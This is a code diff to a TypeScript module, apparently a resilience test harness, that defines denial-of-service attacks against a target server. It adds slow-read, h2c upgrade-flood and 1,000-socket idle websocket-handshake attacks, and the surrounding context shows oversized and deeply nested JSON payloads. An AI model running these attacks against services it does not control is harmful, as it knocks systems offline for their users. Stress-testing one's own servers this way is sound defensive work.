@@ -32,6 +32,14 @@ function flood(text: (target: Target) => string, connections = 64): Attack {
     );
 }
 
+const HANDSHAKE = 'GET /v2/socket/?EIO=4&transport=websocket&endUserIdentifier=ada';
+const WEBSOCKET = {
+  connection: 'Upgrade',
+  upgrade: 'websocket',
+  'sec-websocket-version': 13,
+  'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==',
+};
+
 const unknownKey = `blocks-${'A'.repeat(43)}`;
 const swelling = JSON.stringify({ a: Array.from({ length: 340_000 }, () => ({})) });
 const deep = '['.repeat(200_000);
@@ -58,6 +66,18 @@ export const ATTACKS = {
       hold(target, signal, (socket) => {
         socket.pause();
         socket.write(requestText(target, 'GET /docs/json').repeat(200));
+      }),
+    ),
+
+  /** Asks for much and reads a little of it now and then. */
+  'slow-reads': (target, signal) =>
+    inParallel(40, signal, () =>
+      hold(target, signal, (socket) => {
+        socket.pause();
+        socket.on('data', () => socket.pause());
+        const sips = setInterval(() => socket.resume(), 200);
+        socket.once('close', () => clearInterval(sips));
+        socket.write(requestText(target, 'GET /docs/json').repeat(100));
       }),
     ),
 
@@ -128,15 +148,24 @@ export const ATTACKS = {
       }),
     ),
 
+  /** Offers of a protocol that nobody speaks here. */
+  'upgrade-offers': flood((target) =>
+    requestText({ url: target.url }, 'GET /nothing', { connection: 'Upgrade, HTTP2-Settings', upgrade: 'h2c' }),
+  ),
+
   /** Sockets that are opened without a key, and let go. */
   'handshake-flood': (target, signal) =>
     inParallel(64, signal, () =>
       hold(target, signal, (socket) => {
-        const path = 'GET /v2/socket/?EIO=4&transport=websocket&endUserIdentifier=ada';
-        const upgrade = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-version': 13 };
         socket.once('data', () => socket.destroy());
-        socket.write(requestText({ url: target.url }, path, { ...upgrade, 'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==' }));
+        socket.write(requestText({ url: target.url }, HANDSHAKE, WEBSOCKET));
       }),
+    ),
+
+  /** Sockets that are opened without a key, and stay as they are. */
+  'silent-sockets': (target, signal) =>
+    inParallel(1_000, signal, () =>
+      hold(target, signal, (socket) => socket.resume().write(requestText({ url: target.url }, HANDSHAKE, WEBSOCKET))),
     ),
 } satisfies Record<string, Attack>;
 
